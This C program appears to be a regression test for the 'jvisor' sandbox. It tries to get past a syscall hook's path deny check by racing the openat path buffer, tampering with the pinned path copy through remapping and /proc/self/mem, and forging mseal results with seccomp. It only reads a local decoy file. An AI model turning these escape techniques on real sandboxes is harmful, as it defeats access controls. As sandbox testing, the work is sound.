/* Attack on a deny hook's path check (issue 13, finding 4): the path buffer
 * passed to openat flips between an allowed and a denied name while the call
 * is in flight. A "leak" is an open of the denied file that succeeded.
 *
 *   esc_toctou MODE TRIES SECONDS [until-leak]
 *
 * MODE: the racing writer:
 *   thread  a sibling thread
 *   shared  a forked child writing through a MAP_SHARED page
 *   clonevm a clone(CLONE_VM) process (not a thread: stopThreads misses it)
 *   remap   a sibling thread that attacks the pinned copy itself (jvisor's
 *           "jvisor-pin" mapping): mmap over it, mprotect, munmap, mremap and
 *           writes through /proc/self/mem; reports how many of them worked.
 * until-leak: stop at the first leak (a race shown, however loaded the machine).
 * Prints "tries=N allowed=N denied=N leaks=N [tamper=N attempts=N]".
 *
 *   esc_toctou regs PATH     openat(PATH) by an inline syscall; prints
 *                            "regs ok" when the argument registers survived
 *   esc_toctou restart PATH  mkfifo PATH, open it for reading: a SIGUSR1 with
 *                            an SA_RESTART handler interrupts the open, a child
 *                            opens the writing end later; prints "restart ok"
 *   esc_toctou forge ERRNO PATH  install a seccomp filter that answers mseal()
 *                            with -ERRNO (0: a forged success), then
 *                            openat(PATH); prints "forge ret fd|ERROR" */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <pthread.h>

struct shared {
	char path[256];
	size_t flip; /* offset of the 4 bytes that flip */
	atomic_int stop;
	atomic_long flips;
	atomic_long tamper, attempts;
};

static struct shared *sh;

static void flipper(void)
{
	uint32_t okay, deny;
	memcpy(&okay, "okay", 4);
	memcpy(&deny, "deny", 4);
	_Atomic uint32_t *w = (_Atomic uint32_t *)(void *)(sh->path + sh->flip);
	/* Each name about half of the time. */
	while (!atomic_load_explicit(&sh->stop, memory_order_relaxed)) {
		atomic_store_explicit(w, deny, memory_order_relaxed);
		for (int i = 0; i < 64; i++)
			__builtin_ia32_pause();
		atomic_store_explicit(w, okay, memory_order_relaxed);
		for (int i = 0; i < 64; i++)
			__builtin_ia32_pause();
		atomic_fetch_add_explicit(&sh->flips, 1, memory_order_relaxed);
	}
}

static void *flip_thread(void *arg)
{
	(void)arg;
	flipper();
	return NULL;
}

static int flip_clone(void *arg)
{
	(void)arg;
	flipper();
	return 0;
}

/* The pinned-copy region, from /proc/self/maps (0 when absent). */
static int find_pin(uintptr_t *lo, uintptr_t *hi)
{
	FILE *f = fopen("/proc/self/maps", "re");
	if (!f)
		return 0;
	char line[512];
	int found = 0;
	while (fgets(line, sizeof(line), f))
		if (strstr(line, "jvisor-pin") && sscanf(line, "%lx-%lx", lo, hi) == 2) {
			found = 1;
			break;
		}
	fclose(f);
	return found;
}

static void tried(int worked)
{
	atomic_fetch_add(&sh->attempts, 1);
	if (worked)
		atomic_fetch_add(&sh->tamper, 1);
}

static void *remap_thread(void *arg)
{
	(void)arg;
	uintptr_t lo, hi;
	while (!atomic_load(&sh->stop)) {
		atomic_fetch_add(&sh->flips, 1);
		if (!find_pin(&lo, &hi))
			continue;
		size_t len = hi - lo;
		void *p = mmap((void *)lo, len, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		tried(p != MAP_FAILED);
		tried(mprotect((void *)lo, len, PROT_READ | PROT_WRITE) == 0);
		void *q = mremap((void *)lo, len, len, MREMAP_MAYMOVE | MREMAP_FIXED,
				 (void *)(lo + (1ul << 30)));
		tried(q != MAP_FAILED);
		tried(munmap((void *)lo, len) == 0);
		int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
		if (fd >= 0) {
			char deny[256];
			memcpy(deny, sh->path, sizeof(deny));
			memcpy(deny + sh->flip, "deny", 4);
			/* Overwrite every page's start: a pinned path sits there. */
			int ok = 0;
			for (uintptr_t a = lo; a < hi; a += 4096)
				ok |= pwrite(fd, deny, strlen(deny) + 1, (off_t)a) > 0;
			tried(ok);
			close(fd);
		}
		usleep(1000);
	}
	return NULL;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void write_file(const char *dir, const char *name, const char *text)
{
	char p[300];
	snprintf(p, sizeof(p), "%s/%s", dir, name);
	FILE *f = fopen(p, "we");
	if (!f || fputs(text, f) < 0 || fclose(f) != 0) {
		perror(p);
		exit(2);
	}
}

/* The argument registers survive a syscall (compilers rely on it): also
 * when a hook pointed one at a pinned copy. */
static int regs(const char *path)
{
	register long rdi __asm__("rdi") = AT_FDCWD;
	register long rsi __asm__("rsi") = (long)path;
	register long rdx __asm__("rdx") = O_RDONLY | O_CLOEXEC;
	register long r10 __asm__("r10") = 0x1004;
	long rax = SYS_openat;
	__asm__ volatile("syscall"
			 : "+a"(rax), "+r"(rdi), "+r"(rsi), "+r"(rdx), "+r"(r10)
			 :
			 : "rcx", "r11", "memory");
	bool ok =
	    rdi == AT_FDCWD && rsi == (long)path && rdx == (O_RDONLY | O_CLOEXEC) && r10 == 0x1004;
	printf("regs %s ret %s\n", ok ? "ok" : "CHANGED", rax >= 0 ? "fd" : strerror((int)-rax));
	return 0;
}

static volatile sig_atomic_t handled;
static void on_usr1(int sig)
{
	(void)sig;
	handled++;
}

static int restart(const char *path)
{
	struct sigaction sa = {.sa_handler = on_usr1, .sa_flags = SA_RESTART};
	sigaction(SIGUSR1, &sa, NULL);
	if (mkfifo(path, 0600) < 0) {
		perror("mkfifo");
		return 2;
	}
	pid_t parent = getpid(), child = fork();
	if (child == 0) {
		usleep(200 * 1000);
		kill(parent, SIGUSR1);
		usleep(200 * 1000);
		int w = open(path, O_WRONLY | O_CLOEXEC);
		_exit(w < 0 || write(w, "x", 1) != 1);
	}
	int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
	char c = 0;
	bool ok = fd >= 0 && read(fd, &c, 1) == 1 && c == 'x';
	int st;
	waitpid(child, &st, 0);
	unlink(path);
	printf("restart %s handled=%d\n", ok ? "ok" : strerror(errno), (int)handled);
	return 0;
}

/* The program answers jvisor's injected mseal itself: pinning must fail. */
static int forge(int err, const char *path)
{
	struct sock_filter f[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 462 /* mseal */, 0, 1),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | (unsigned)err),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {sizeof(f) / sizeof(f[0]), f};
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) {
		perror("seccomp");
		return 2;
	}
	int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
	printf("forge ret %s\n", fd >= 0 ? "fd" : strerror(errno));
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "forge"))
		return forge(atoi(argv[2]), argv[3]);
	if (argc == 3 && !strcmp(argv[1], "regs"))
		return regs(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "restart"))
		return restart(argv[2]);
	bool until_leak = argc == 5 && !strcmp(argv[4], "until-leak");
	if (argc != 4 && !until_leak) {
		fprintf(
		    stderr,
		    "usage: esc_toctou thread|shared|clonevm|remap TRIES SECONDS [until-leak]\n");
		return 2;
	}
	const char *mode = argv[1];
	long tries = atol(argv[2]);
	double limit = atof(argv[3]);
	sh = mmap(NULL, sizeof(*sh), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		return 2;
	char dir[] = "/tmp/esc_toctou.XXXXXX";
	if (!mkdtemp(dir)) {
		perror("mkdtemp");
		return 2;
	}
	/* The hook denies names with "deny": create that file under another name. */
	write_file(dir, "okay", "public\n");
	write_file(dir, "tmp", "SECRET\n");
	char from[300], to[300];
	snprintf(from, sizeof(from), "%s/tmp", dir);
	snprintf(to, sizeof(to), "%s/deny", dir);
	if (rename(from, to) < 0) {
		perror("rename");
		return 2;
	}
	snprintf(sh->path, sizeof(sh->path), "%s/okay", dir);
	sh->flip = strlen(sh->path) - 4;

	pthread_t th;
	pid_t child = 0;
	static char stack[64 * 1024] __attribute__((aligned(16)));
	if (!strcmp(mode, "thread")) {
		pthread_create(&th, NULL, flip_thread, NULL);
	} else if (!strcmp(mode, "remap")) {
		pthread_create(&th, NULL, remap_thread, NULL);
	} else if (!strcmp(mode, "shared")) {
		child = fork();
		if (child == 0) {
			flipper();
			_exit(0);
		}
	} else if (!strcmp(mode, "clonevm")) {
		child = clone(flip_clone, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
	} else {
		fprintf(stderr, "esc_toctou: unknown mode %s\n", mode);
		return 2;
	}
	if (child < 0) {
		perror("fork/clone");
		return 2;
	}
	while (atomic_load(&sh->flips) == 0)
		sched_yield();

	long n = 0, allowed = 0, denied = 0, leaks = 0;
	double end = now() + limit;
	for (; n < tries && now() < end && !(until_leak && leaks); n++) {
		int fd = (int)syscall(SYS_openat, AT_FDCWD, sh->path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			denied++;
			continue;
		}
		allowed++;
		char buf[16] = {0};
		if (read(fd, buf, sizeof(buf) - 1) > 0 && !strcmp(buf, "SECRET\n"))
			leaks++;
		close(fd);
	}
	atomic_store(&sh->stop, 1);
	if (child > 0)
		waitpid(child, NULL, __WALL);
	else
		pthread_join(th, NULL);
	printf("tries=%ld allowed=%ld denied=%ld leaks=%ld", n, allowed, denied, leaks);
	if (!strcmp(mode, "remap"))
		printf(" tamper=%ld attempts=%ld", atomic_load(&sh->tamper),
		       atomic_load(&sh->attempts));
	printf("\n");
	char p[300];
	snprintf(p, sizeof(p), "%s/okay", dir);
	unlink(p);
	snprintf(p, sizeof(p), "%s/deny", dir);
	unlink(p);
	rmdir(dir);
	return 0;
}
